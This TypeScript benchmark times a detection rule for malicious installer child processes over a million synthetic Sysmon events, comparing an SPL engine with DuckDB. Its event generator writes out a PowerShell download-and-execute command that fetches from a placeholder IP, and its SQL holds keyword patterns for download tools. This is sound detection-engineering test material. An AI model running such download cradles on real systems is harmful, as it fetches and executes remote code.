// Benchmark: the seed SPL rule (detections/spl/t1546.016-installer-packages.seed.spl) over 1 M
// generated events, in the SPL engine and in DuckDB, in the same run.
//   npx tsx bench/spl-seed.ts [events=1000000]
// Generates Splunk-view events as JSON Lines (the legacy sourcetype naming the seed rule selects:
// Sysmon EID 1 and 3 with their EventData fields, about 1.1 KB each; 2 % installer activity) into
// a temp file, then runs each candidate in its own child process, one after the other:
//   read only          readline + JSON.parse per line, nothing else (the floor of any JS reader)
//   spl                readline + JSON.parse + the engine (its own prefilter on the parsed event)
//   spl, no prefilter  the same with settings prefilter=off: every event fully evaluated
//   spl, line filter   the rule's prefilter tested on each raw line before JSON.parse, as a reader
//                      of flat view JSON can (CompiledRule.prefilter)
//   duckdb             @duckdb/node-api: read_json + the same logic in SQL (regexp_matches is RE2,
//                      as the engine's match()), ORDER BY _time DESC LIMIT 10000, all cores
// and prints events/s, wall time, peak RSS (the child's maxRSS) and the ratio to DuckDB. Every
// candidate's rows are counted per DetectionType and must agree. Figures only, no thresholds.
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createReadStream, createWriteStream, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { splEngine } from '../detections/engines/spl/index.ts';
import { prefilterTest } from '../detections/engines/spl/prefilter.ts';
import type { ViewEvent } from '../detections/engines/types.ts';

const CANDIDATES = ['read only', 'spl', 'spl, no prefilter', 'spl, line filter', 'duckdb'] as const;
type Candidate = (typeof CANDIDATES)[number];

interface Result {
  events: number;
  ms: number;
  maxRssKiB: number;
  /** rows per DetectionType */
  rows: Record<string, number>;
}

const RULE_FILE = fileURLToPath(new URL('../detections/spl/t1546.016-installer-packages.seed.spl', import.meta.url));
const SYSMON = 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational';

/** Parent, child and command line of event i: 98 % ordinary, 2 % installer activity of four kinds. */
function shape(i: number): { parent: string; image: string; cmd: string; eid: 1 | 3; ip?: string } {
  const k = i % 100;
  if (k === 0) return { parent: 'C:\\Windows\\System32\\msiexec.exe', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: `powershell.exe -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.${i % 250}/p${i}')"` , eid: 1 };
  if (k === 1) return { parent: 'C:\\Windows\\System32\\msiexec.exe', image: 'C:\\Windows\\System32\\cmd.exe', cmd: `C:\\Windows\\system32\\cmd.exe /c echo ${i}> C:\\custom_action_test.txt`, eid: 1 };
  // 52.110.x.x contains "10." and counts as private under the seed's substring regex (spl.md S7)
  if (k === 2) return { parent: 'C:\\Windows\\System32\\services.exe', image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'C:\\Windows\\system32\\msiexec.exe /V', eid: 3, ip: [`52.20.${i % 200}.4`, `52.110.${i % 200}.4`, `192.168.1.${i % 200}`][i % 3] };
  if (k === 3) return { parent: 'C:\\Windows\\System32\\msiexec.exe', image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'C:\\Windows\\System32\\MsiExec.exe -Embedding 696CA21DBD3EEAD595FC7EB55BF8BDA1', eid: 1 };
  if (k < 60) return { parent: 'C:\\Windows\\explorer.exe', image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=${i}`, eid: 1 };
  if (k < 90) return { parent: 'C:\\Windows\\System32\\svchost.exe', image: 'C:\\Windows\\System32\\taskhostw.exe', cmd: `taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly ${i}`, eid: 1 };
  return { parent: 'C:\\Windows\\System32\\svchost.exe', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', eid: 3, ip: `10.0.${i % 200}.7` };
}

function event(i: number): string {
  const s = shape(i);
  const time = 1729955629 + i / 1000;
  const common = {
    _time: time.toFixed(3),
    index: 'wineventlog',
    sourcetype: SYSMON,
    source: SYSMON,
    host: `WKS${i % 50}`,
    EventCode: String(s.eid),
    RuleName: '-',
    UtcTime: new Date(time * 1000).toISOString().replace('T', ' ').slice(0, 23),
    ProcessGuid: `{DBF410B3-${(i % 65536).toString(16).toUpperCase().padStart(4, '0')}-671D-D200-${String(i).padStart(12, '0')}}`,
    ProcessId: String(1000 + (i % 60000)),
    Image: s.image,
    User: 'LAB\\user',
  };
  if (s.eid === 3) {
    return JSON.stringify({
      ...common, Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: '10.0.0.5', SourceHostname: `WKS${i % 50}.lab.local`,
      SourcePort: String(49152 + (i % 16000)), SourcePortName: '-', DestinationIsIpv6: 'false', DestinationIp: s.ip, DestinationHostname: '-',
      DestinationPort: '443', DestinationPortName: 'https', signature_id: '3', dest_ip: s.ip, dest_port: '443', process_name: path.win32.basename(s.image),
    });
  }
  return JSON.stringify({
    ...common,
    FileVersion: '10.0.19041.546 (WinBuild.160101.0800)', Description: 'Windows binary', Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation', OriginalFileName: path.win32.basename(s.image), CommandLine: s.cmd, CurrentDirectory: 'C:\\Users\\lab\\',
    LogonGuid: '{DBF410B3-0717-671D-58E1-120000000000}', LogonId: '0x12E158', TerminalSessionId: '1', IntegrityLevel: 'High',
    Hashes: 'SHA256=9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3,IMPHASH=3D8A5C1E2B4F6A7C8D9E0F1A2B3C4D5E',
    ParentProcessGuid: '{DBF410B3-0718-671D-BB00-000000003900}', ParentProcessId: String(500 + (i % 4000)), ParentImage: s.parent,
    ParentCommandLine: s.parent, ParentUser: 'LAB\\user', signature_id: '1', process: s.cmd, process_name: path.win32.basename(s.image),
  });
}

async function generate(file: string, n: number): Promise<void> {
  const out = createWriteStream(file);
  for (let i = 0; i < n; i += 1000) {
    const lines: string[] = [];
    for (let j = i; j < Math.min(n, i + 1000); j++) lines.push(event(j));
    if (!out.write(lines.join('\n') + '\n')) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
}

// The seed rule in SQL, clause by clause (spl.md §10): the search (case-insensitive field=value),
// the four evals (coalesce, lower, regexp_matches — RE2, unanchored, case-sensitive — and Splunk's
// dual typing for EventCode=1), where, case(), table, sort - _time with its 10,000 cap.
const COLUMNS = ['_time', 'index', 'sourcetype', 'host', 'User', 'EventCode', 'Image', 'NewProcessName', 'ParentImage', 'ParentProcessName', 'CommandLine', 'NewProcessCommandLine', 'DestinationIp'];
function duckdbSql(file: string): string {
  const cols = COLUMNS.map((c) => `"${c}": 'VARCHAR'`).join(', ');
  const code = 'TRY_CAST("EventCode" AS DOUBLE)';
  return `
WITH ev AS (SELECT * FROM read_json('${file.replace(/'/g, "''")}', format = 'newline_delimited', columns = {${cols}})),
s AS (SELECT * FROM ev WHERE lower("index") = 'wineventlog'
      AND (lower(sourcetype) = lower('${SYSMON}') OR lower(sourcetype) = lower('WinEventLog:Security'))),
a AS (SELECT *, CASE WHEN (${code} = 1 OR ${code} = 4688)
        AND regexp_matches(lower(coalesce("ParentImage", '', "ParentProcessName", '')), '(msiexec|installer|pkgutil|dpkg|rpm|chocolatey|winget)')
        THEN 1 ELSE 0 END AS IsInstallerParent FROM s),
b AS (SELECT *, CASE WHEN IsInstallerParent = 1
        AND regexp_matches(lower(coalesce("Image", "NewProcessName", '')), '(powershell|pwsh|cmd\\.exe|wscript|cscript|mshta|certutil|bitsadmin|bash|python)')
        THEN 1 ELSE 0 END AS IsScriptChild FROM a),
c AS (SELECT *, CASE WHEN regexp_matches(lower(coalesce("CommandLine", '', "NewProcessCommandLine", '')), '(invoke-webrequest|downloadstring|net\\.webclient|curl\\s|wget\\s|-encodedcommand|certutil.*urlcache)')
        THEN 1 ELSE 0 END AS HasSuspiciousArgs FROM b),
d AS (SELECT *, CASE WHEN ${code} = 3 AND regexp_matches(lower(coalesce("Image", '')), '(msiexec|installer)')
        AND NOT coalesce(regexp_matches("DestinationIp", '(10\\.|172\\.16\\.|192\\.168\\.|127\\.)'), false)
        THEN 1 ELSE 0 END AS IsNetworkInstaller FROM c)
SELECT "_time", host, "User", "EventCode",
  CASE WHEN HasSuspiciousArgs = 1 AND IsScriptChild = 1 THEN 'INSTALLER_DOWNLOAD_CRADLE'
       WHEN IsScriptChild = 1 THEN 'INSTALLER_SCRIPT_CHILD'
       WHEN IsNetworkInstaller = 1 THEN 'INSTALLER_NETWORK_CALLBACK'
       ELSE 'INSTALLER_SUSPICIOUS_ACTIVITY' END AS DetectionType,
  "Image", "CommandLine", "ParentImage"
FROM d
WHERE IsScriptChild = 1 OR (HasSuspiciousArgs = 1 AND IsInstallerParent = 1) OR IsNetworkInstaller = 1
ORDER BY CAST("_time" AS DOUBLE) DESC
LIMIT 10000`;
}

function tally(rows: Record<string, number>, type: string | undefined): void {
  const k = type ?? '(none)';
  rows[k] = (rows[k] ?? 0) + 1;
}

async function* lines(file: string, keep: (line: string) => boolean = () => true): AsyncGenerator<ViewEvent> {
  for await (const line of createInterface({ input: createReadStream(file), crlfDelay: Infinity })) {
    if (line !== '' && keep(line)) yield JSON.parse(line) as ViewEvent;
  }
}

/** One candidate, in this (child) process. */
async function run(candidate: Candidate, file: string, n: number): Promise<Result> {
  const rows: Record<string, number> = {};
  const text = readFileSync(RULE_FILE, 'utf8');
  const t0 = performance.now();
  let events = n;
  if (candidate === 'read only') {
    events = 0;
    for await (const e of lines(file)) if (e.EventCode) events++;
  } else if (candidate === 'duckdb') {
    const { DuckDBInstance } = await import('@duckdb/node-api');
    const db = await DuckDBInstance.create(':memory:');
    const conn = await db.connect();
    const reader = await conn.runAndReadAll(duckdbSql(file));
    for (const r of reader.getRowObjects()) tally(rows, String(r.DetectionType));
  } else {
    const settings: Record<string, string> = candidate === 'spl, no prefilter' ? { prefilter: 'off' } : {};
    const rule = splEngine.compile(text, { file: RULE_FILE, settings });
    const test = prefilterTest(rule.prefilter ?? []);
    const source = candidate === 'spl, line filter' ? lines(file, test) : lines(file);
    for await (const r of rule.evaluate(source)) tally(rows, r.DetectionType as string | undefined);
  }
  const ms = performance.now() - t0;
  return { events, ms, maxRssKiB: process.resourceUsage().maxRSS, rows };
}

const self = fileURLToPath(import.meta.url);
if (process.argv[2] === '--child') {
  const result = await run(process.argv[3] as Candidate, process.argv[4]!, Number(process.argv[5]));
  process.stdout.write(JSON.stringify(result));
} else {
  const n = Number(process.argv[2] ?? 1_000_000);
  if (!Number.isInteger(n) || n <= 0) {
    console.error('usage: npx tsx bench/spl-seed.ts [events]');
    process.exit(2);
  }
  const dir = mkdtempSync(path.join(tmpdir(), 'bench-spl-seed-'));
  const file = path.join(dir, 'splunk-view.jsonl');
  try {
    const g0 = performance.now();
    await generate(file, n);
    const size = statSync(file).size;
    console.log(`generated ${n} Splunk-view events (Sysmon EID 1/3, legacy naming) as JSON Lines: ${(size / 1048576).toFixed(1)} MiB (${(size / n).toFixed(0)} B/event) in ${((performance.now() - g0) / 1000).toFixed(1)} s`);
    const results = new Map<Candidate, Result>();
    for (const c of CANDIDATES) {
      const child = spawnSync(process.execPath, [...process.execArgv, self, '--child', c, file, String(n)], { encoding: 'utf8', maxBuffer: 1 << 20 });
      if (child.status !== 0) throw new Error(`${c} failed: ${child.stderr}`);
      results.set(c, JSON.parse(child.stdout) as Result);
    }
    const duck = results.get('duckdb')!;
    const expected = JSON.stringify(Object.entries(duck.rows).sort());
    console.log(`rows per DetectionType (duckdb): ${expected}`);
    console.log(`${'candidate'.padEnd(20)} ${'wall'.padStart(9)} ${'events/s'.padStart(11)} ${'peak RSS'.padStart(11)} ${'time vs duckdb'.padStart(15)}  rows agree`);
    for (const [c, r] of results) {
      const agree = c === 'read only' ? '-' : JSON.stringify(Object.entries(r.rows).sort()) === expected ? 'yes' : `NO: ${JSON.stringify(r.rows)}`;
      console.log(
        `${c.padEnd(20)} ${(r.ms / 1000).toFixed(2).padStart(7)} s ${Math.round(n / (r.ms / 1000)).toLocaleString('en').padStart(11)} ` +
        `${(r.maxRssKiB / 1024).toFixed(0).padStart(7)} MiB ${(r.ms / duck.ms).toFixed(2).padStart(14)}x  ${agree}`,
      );
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
